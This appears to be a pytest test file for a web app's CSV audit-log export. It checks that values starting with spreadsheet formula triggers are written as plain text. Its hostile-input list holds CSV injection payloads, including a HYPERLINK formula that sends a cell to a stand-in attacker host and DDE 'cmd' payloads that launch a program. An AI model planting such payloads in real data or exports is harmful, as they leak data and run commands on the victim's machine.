"""The CSV export never hands a spreadsheet a formula, whatever an attacker put in a field."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest

from config.spreadsheet_csv import FORMULA_TRIGGERS, csv_row, spreadsheet_cell

TOKEN_URL = "/api/v1/auth/token"
EXPORT = "/api/v1/audit/events/export"

HOSTILE_AGENTS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _export_rows(client: Any) -> list[dict[str, str]]:
    response = client.get(EXPORT, {"format": "csv"})
    assert response.status_code == 200
    body = b"".join(response.streaming_content).decode()
    return list(csv.DictReader(io.StringIO(body, newline="")))


@pytest.mark.parametrize("agent", HOSTILE_AGENTS)
def test_a_failed_sign_in_with_a_formula_user_agent_exports_as_text(
    agent, api_client, admin_client, member
):
    refused = api_client.post(
        TOKEN_URL,
        {"username": member.username, "password": "wrong"},
        format="json",
        HTTP_USER_AGENT=agent,
    )
    assert refused.status_code == 401

    rows = _export_rows(admin_client)

    failed = [row for row in rows if row["action"] == "auth.login_failed"]
    assert [row["user_agent"] for row in failed] == ["'" + agent]


def test_no_exported_cell_starts_with_a_formula_trigger(api_client, admin_client, member):
    for agent in HOSTILE_AGENTS:
        api_client.post(
            TOKEN_URL,
            {"username": member.username, "password": "x"},
            format="json",
            HTTP_USER_AGENT=agent,
        )

    rows = _export_rows(admin_client)

    assert len(rows) >= len(HOSTILE_AGENTS)
    cells = [value for row in rows for value in row.values()]
    assert not [cell for cell in cells if cell.startswith(FORMULA_TRIGGERS)]


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("-5", "'-5"),
        ("a=b", "a=b"),
        ("", ""),
        (None, ""),
        (42, "42"),
        ("'=already", "'=already"),
    ],
)
def test_a_cell_is_quoted_only_when_a_spreadsheet_would_run_it(value, written):
    assert spreadsheet_cell(value) == written


def test_a_row_keeps_csv_quoting_around_neutralised_cells():
    line = csv_row(['=HYPERLINK("x")', "plain, with comma"])

    assert line == '"\'=HYPERLINK(""x"")","plain, with comma"\r\n'
